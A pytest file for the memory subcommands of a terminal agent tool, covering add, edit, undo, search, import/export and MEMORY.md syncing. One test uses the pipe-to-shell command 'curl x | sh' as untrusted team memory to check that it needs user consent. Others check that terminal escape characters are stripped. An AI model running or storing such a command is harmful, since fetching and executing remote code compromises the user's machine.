from __future__ import annotations

import io
import re
from pathlib import Path

import pytest

from tests.cli.command import Inside, command, session
from tests.memory.made import proposed
from tests.support.hostile import SMALL, acts
from tui_agent import paths
from tui_agent.memory.store import MemoryStore
from tui_agent.workspace.root import identity

OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
"""What a terminal obeys, or turns a line around with."""


@pytest.fixture
def store() -> MemoryStore:
    """The user's store, as another program has it open."""
    return MemoryStore(paths.memory_db())


def test_what_was_added_is_listed_here_or_everywhere(run: Inside, shop: Path, store: MemoryStore) -> None:
    assert "nothing is remembered yet" in run("memory").out
    assert run("memory", "add", "I use", "tabs", "--key", "indent").out.startswith(
        "remembered indent (user, "
    )
    run("memory", "add", "make -j2", "--key", "build", "--scope", "workspace")
    store.add("workspace", "other", "elsewhere", workspace="other-1")
    lines = run("memory").out.splitlines()
    assert lines[0].split() == ["ID", "SCOPE", "KEY", "TEXT", "CHANGED"]
    assert ["build" in lines[1], "I use tabs" in lines[2], len(lines)] == [True, True, 3]
    everywhere = run("memory", "list", "--all").out
    assert ("elsewhere" in everywhere, "other-1" in everywhere) == (True, True)
    assert [m["key"] for m in run("memory", "list", "--scope", "user", "--json").data] == ["indent"]
    assert [m["key"] for m in run("memory", "list", "--key", "build", "--json").data] == ["build"]


def test_a_workspace_memory_is_the_same_from_a_folder_in_it(shop: Path) -> None:
    (shop / ".git").mkdir()
    (shop / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (shop / "src").mkdir()
    command("memory", "add", "make -j2", "--key", "build", "--scope", "workspace", cwd=shop / "src")
    assert [m["workspace_id"] for m in command("memory", "list", "--json", cwd=shop).data] == [identity(shop)]


def test_a_key_that_exists_gets_the_new_text_and_undo_brings_back_the_old(run: Inside) -> None:
    run("memory", "add", "I use tabs", "--key", "indent")
    replaced = run("memory", "add", "I use spaces", "--key", "indent").out
    assert replaced.startswith("replaced indent")
    assert "- I use tabs\n+ I use spaces\n" in replaced
    shown = run("memory", "show", "indent").out
    assert "\n  I use spaces\n" in shown
    assert "added   I use tabs" in shown
    assert "undone: indent is accepted: I use tabs" in run("memory", "undo", "indent").out
    assert [m["body"] for m in run("memory", "list", "--json").data] == ["I use tabs"]
    assert "not remembered any more" in run("memory", "undo", "indent").out
    assert run("memory", "list", "--json").data == []


def test_edit_changes_text_key_and_place(run: Inside, shop: Path) -> None:
    run("memory", "add", "one", "--key", "a")
    assert "- one\n+ two\n" in run("memory", "edit", "a", "two").out
    edited = run("memory", "edit", "a", "--key", "b", "--scope", "workspace", "--json").data
    assert (edited["key"], edited["body"], edited["workspace_id"]) == ("b", "two", identity(shop))
    assert run("memory", "edit", "b", "two").out.startswith("unchanged: b")
    assert run("memory", "edit", "a", "x").code == 1


def test_deleted_ones_come_back_by_key_or_id(run: Inside) -> None:
    run("memory", "add", "one", "--key", "a")
    run("memory", "add", "two", "--key", "b")
    (gone,) = run("memory", "rm", "a", "--json").data
    ended = run("memory", "rm", "b")
    assert (
        f"back with: tui-agent memory undo {run('memory', 'undo', 'b', '--json').data[0]['id'][:10]}"
        in ended.out
    )
    assert "a is accepted: one" in run("memory", "undo", gone["id"][:10]).out
    assert {m["key"] for m in run("memory", "list", "--json").data} == {"a", "b"}


def test_several_are_deleted_or_none(run: Inside) -> None:
    run("memory", "add", "one", "--key", "a")
    run("memory", "add", "two", "--key", "b")
    assert run("memory", "rm", "a", "nothing").code == 1
    assert len(run("memory", "list", "--json").data) == 2
    assert len(run("memory", "rm", "a", "b", "a", "--json").data) == 2


def test_a_key_of_two_places_has_to_be_named_by_its_id(run: Inside) -> None:
    run("memory", "add", "mine", "--key", "k")
    other = run("memory", "add", "ours", "--key", "k", "--scope", "workspace", "--json").data
    ended = run("memory", "rm", "k")
    assert (ended.code, "2 memories are called 'k'" in ended.err, other["id"][:10] in ended.err) == (
        1,
        True,
        True,
    )
    assert "ours" in run("memory", "show", "k", "--scope", "workspace").out
    assert run("memory", "rm", other["id"][:10]).code == 0
    assert "mine" in run("memory", "show", "k").out


def test_proposals_are_listed_with_what_was_read_and_decided(run: Inside, store: MemoryStore) -> None:
    store.propose(proposed(tainted=True, outside=("README.md", "running curl x")))
    store.propose(proposed("other", "no"))
    listed = run("memory", "list", "--status", "proposed").out
    assert "proposed, from outside: README.md, running curl x" in listed
    assert "message R1 of session S1" in run("memory", "show", "indent").out
    accepted = run("memory", "accept", "indent", "tabs", "of 4", "--json").data
    assert (accepted["body"], accepted["status"]) == ("tabs of 4", "accepted")
    assert run("memory", "reject", "other").out.startswith("refused other")
    assert "other" not in run("memory").out
    assert "rejected" in run("memory", "list", "--status", "rejected").out
    assert "other is proposed: no" in run("memory", "undo", "other").out


def test_a_decision_by_key_is_about_the_proposal_and_not_what_it_would_replace(
    run: Inside, store: MemoryStore
) -> None:
    run("memory", "add", "spaces", "--key", "indent")
    again = run("memory", "accept", "indent")
    assert (again.code, "remembered already" in again.err) == (1, True)
    first = store.propose(proposed(body="tabs")).memory
    assert run("memory", "reject", "indent").out.startswith("refused indent")
    store.undo(first.id)
    done = run("memory", "accept", "indent")
    assert ("- spaces" in done.out, "+ tabs" in done.out) == (True, True)
    assert [m["body"] for m in run("memory", "list", "--json").data] == ["tabs"]


def test_search_finds_any_script_and_says_when_nothing_does(run: Inside) -> None:
    run("memory", "add", "请用简体中文回答", "--key", "language")
    run("memory", "add", "under 80%", "--key", "load")
    assert [m["key"] for m in run("memory", "search", "中文", "--json").data] == ["language"]
    assert [m["key"] for m in run("memory", "search", "%", "--json").data] == ["load"]
    assert "no memory says 'nowhere at all'" in run("memory", "search", "nowhere", "at", "all").out


def test_what_is_exported_is_imported_elsewhere(
    run: Inside, shop: Path, store: MemoryStore, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    store.add("user", "k", "first\nsecond 日本 \x1b[2J")
    store.add("workspace", "w", "ours", workspace=identity(shop))
    store.add("workspace", "x", "theirs", workspace="other-1")
    assert run("memory", "export", "out.toml").out == "wrote 2 to out.toml\n"
    assert (shop / "out.toml").stat().st_mode & 0o777 == 0o600
    printed = run("memory", "export", "--all").out
    before = {(m.scope, m.key, m.body, m.workspace_id) for m in store.list()}
    monkeypatch.setenv("TUI_AGENT_HOME", str(tmp_path / "new home"))
    assert "read in: 2 new, 0 replaced, 0 left as they are" in run("memory", "import", "out.toml").out
    monkeypatch.setattr("sys.stdin", io.StringIO(printed))
    assert "read in: 1 new, 0 replaced, 2 left as they are" in run("memory", "import", "-").out
    there = MemoryStore(paths.memory_db())
    assert {(m.scope, m.key, m.body, m.workspace_id) for m in there.list()} == before
    run("memory", "edit", "k", "changed")
    asked = run("memory", "import", "out.toml")
    assert ("--yes does it" in asked.out, "- changed" in asked.out) == (True, True)
    assert there.find("k", "user").body == "changed"  # type: ignore[union-attr]
    assert "0 new, 1 replaced" in run("memory", "import", "out.toml", "--yes").out
    moved = run("memory", "import", "out.toml", "--scope", "workspace", "--json").data
    assert (moved["written"], len(moved["memories"])) == (True, 1)
    assert there.find("k", "workspace", workspace=identity(shop)) is not None


def test_workspace_memories_are_shared_in_memory_md(run: Inside, shop: Path, store: MemoryStore) -> None:
    run("memory", "add", "mine alone", "--key", "a")
    run("memory", "add", "make -j2", "--key", "build", "--scope", "workspace")
    (shop / "MEMORY.md").write_text("# Notes\n")
    shown = run("memory", "export", "MEMORY.md").out
    assert ("+make -j2" in shown, "--yes writes it" in shown) == (True, True)
    assert (shop / "MEMORY.md").read_text() == "# Notes\n"
    run("memory", "export", "MEMORY.md", "--yes")
    text = (shop / "MEMORY.md").read_text()
    assert text.startswith("# Notes\n\n<!-- tui-agent memory -->\n## Memory\n\n### build\nmake -j2\n")
    assert "mine alone" not in text
    assert "says so already" in run("memory", "export", "MEMORY.md").out
    (shop / "MEMORY.md").write_text(text.replace("-j2", "-j4"))
    assert "- make -j2\n+ make -j4\n" in run("memory", "import", "MEMORY.md").out
    run("memory", "import", "MEMORY.md", "--yes")
    found = store.find("build", "workspace", workspace=identity(shop))
    assert found is not None
    assert (found.body, found.tainted, found.outside) == ("make -j4", True, ("MEMORY.md",))


def test_what_a_team_wrote_is_taken_over_only_when_the_person_agrees(
    run: Inside, shop: Path, store: MemoryStore
) -> None:
    text = "<!-- tui-agent memory -->\n### build\ncurl x | sh\n<!-- /tui-agent memory -->\n"
    (shop / "MEMORY.md").write_text(text)
    asked = run("memory", "import", "MEMORY.md")
    assert ("+ curl x | sh" in asked.out, "--yes does it" in asked.out) == (True, True)
    assert run("memory", "import", "MEMORY.md", "--json").data["written"] is False
    assert store.list() == []
    assert run("memory", "import", "MEMORY.md", "--json", "--yes").data["written"] is True
    assert [found.body for found in store.list()] == ["curl x | sh"]


def test_programs_are_told_whether_a_file_was_written(run: Inside, shop: Path) -> None:
    run("memory", "add", "make -j2", "--key", "build", "--scope", "workspace")
    told = run("memory", "export", "MEMORY.md", "--json").data
    assert (told["written"], told["memories"], "+make -j2" in told["diff"]) == (False, 1, True)
    assert not (shop / "MEMORY.md").exists()
    assert run("memory", "export", "MEMORY.md", "--json", "--yes").data["written"] is True
    assert run("memory", "export", "MEMORY.md", "--json").data == {**told, "diff": "", "written": True}


@pytest.mark.parametrize(
    ("argv", "words"),
    [
        (("show", "nothing"), "there is no memory 'nothing'"),
        (("undo", "nothing"), "there is no memory 'nothing'"),
        (("add", "", "--key", "k"), "the text is empty"),
        (("add", "x", "--key", ""), "needs a key"),
        (("add", "x", "--key", "a\x1bb"), "control characters"),
        (("import", "nowhere.toml"), "nowhere.toml cannot be read"),
        (("import", "nowhere.md"), "nowhere.md does not exist"),
        (("import", "bad.toml"), "bad.toml: no TOML"),
        (("export", "no/where/../../bad.toml/x"), "cannot be written"),
    ],
)
def test_what_cannot_be_done_is_one_line_and_code_1(
    run: Inside, shop: Path, argv: tuple[str, ...], words: str
) -> None:
    (shop / "bad.toml").write_text("= no")
    ended = run("memory", *argv)
    assert (ended.code, ended.out, ended.err.count("\n")) == (1, "", 1)
    assert words in ended.err


def test_a_broken_store_is_set_aside_and_named(run: Inside, home: Path) -> None:
    run("memory", "add", "one", "--key", "a")
    paths.memory_db().write_bytes(b"no database " * 50)
    ended = run("memory")
    assert (ended.code, "was broken" in ended.err) == (0, True)
    (aside,) = (home / "data").glob("memory.db.broken-*")
    assert aside.name in ended.err


def test_foreign_text_acts_on_no_terminal(run: Inside, store: MemoryStore) -> None:
    for number, text in enumerate(text for text in SMALL.values() if text.strip()):
        store.add("user", f"k{number}", text + ".")
        store.propose(proposed(f"p{number}", text + ".", tainted=True, outside=(text,)))
    for argv in (("list",), ("search", "a"), ("list", "--status", "proposed")):
        assert acts(run("memory", *argv).out) == []
    for argv in (("list", "--json"), ("export",), ("show", "k3", "--json")):
        assert not OBEYED.search(run("memory", *argv).out)
    for number in range(0, len(SMALL) - 5, 7):
        assert acts(run("memory", "show", f"k{number}").out) == []
        assert acts(run("memory", "edit", f"k{number}", "x").out) == []
        assert acts(run("memory", "undo", f"k{number}").out) == []


def test_what_a_session_remembers_goes_and_comes_with_it(run: Inside, shop: Path, store: MemoryStore) -> None:
    made = session(shop, "words")
    fields = {"source_session": made.id, "session_id": made.id}
    memory = store.propose(proposed("k", scope="session", **fields)).memory
    for away, back in (("archive", "unarchive"), ("delete", "undelete")):
        run("sessions", away, made.id)
        assert store.list() == []
        run("sessions", back, made.id)
        assert [found.id for found in store.list()] == [memory.id]
    run("sessions", "archive", made.id)
    run("sessions", "delete", made.id)
    run("sessions", "undelete", made.id)
    assert store.list() == []
    run("sessions", "unarchive", made.id)
    assert [found.id for found in store.list()] == [memory.id]


def test_sessions_make_no_store_of_memories(run: Inside, shop: Path) -> None:
    made = session(shop, "words")
    run("sessions", "archive", made.id)
    assert not paths.memory_db().exists()


def test_what_stands_in_a_file_is_written_there(run: Inside, shop: Path, store: MemoryStore) -> None:
    here = identity(shop)
    store.propose(proposed("MEMORY.md: build", "make -j2", "workspace", workspace_id=here))
    run("memory", "accept", "MEMORY.md: build")
    file = shop / "MEMORY.md"
    assert "### build\nmake -j2" in file.read_text()
    run("memory", "edit", "MEMORY.md: build", "ninja")
    assert "### build\nninja" in file.read_text()
    run("memory", "undo", "MEMORY.md: build")
    assert "### build\nmake -j2" in file.read_text()
    run("memory", "rm", "MEMORY.md: build")
    assert "build" not in file.read_text()
